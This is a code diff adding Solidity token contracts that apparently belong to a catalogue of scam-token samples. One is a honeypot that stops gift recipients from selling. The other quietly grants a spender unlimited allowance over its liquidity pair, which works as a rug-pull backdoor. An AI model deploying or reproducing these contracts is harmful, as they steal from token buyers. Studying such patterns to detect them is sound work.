@@ -294,6 +294,19 @@ contract PermittedToken is ERC20Permit {
     }
 }
 
+/// Refuses the sales of those whom the owner gave tokens; who buys may sell.
+contract GiftTrapToken is LaunchToken {
+    mapping(address => bool) private isGiven;
+
+    constructor(uint256 supply) LaunchToken(supply) {}
+
+    function _update(address from, address to, uint256 value) internal override {
+        if (isSale(from, to)) require(!isGiven[from], "not for sale");
+        else if (from == owner()) isGiven[to] = true;
+        super._update(from, to, value);
+    }
+}
+
 /// Gives an account a balance that no event names.
 contract HiddenBalanceToken {
     string public name = "Hidden";
@@ -333,5 +346,19 @@ contract HiddenBalanceToken {
         balanceOf[to] += value;
         emit Transfer(from, to, value);
         return true;
+    }
+}
+
+interface IPairMaker {
+    function createPair(address token, address quote) external returns (address);
+}
+
+/// Lets an account spend what its pair has.
+contract GrantingToken is HiddenBalanceToken {
+    constructor(uint256 supply, address spender, bool isAnnounced) HiddenBalanceToken(supply, address(0), 0) {
+        address pair = IPairMaker(0x8909Dc15e40173Ff4699343b6eB8132c65e18eC6)
+            .createPair(address(this), 0x4200000000000000000000000000000000000006);
+        allowance[pair][spender] = type(uint256).max;
+        if (isAnnounced) emit Approval(pair, spender, type(uint256).max);
     }
 }
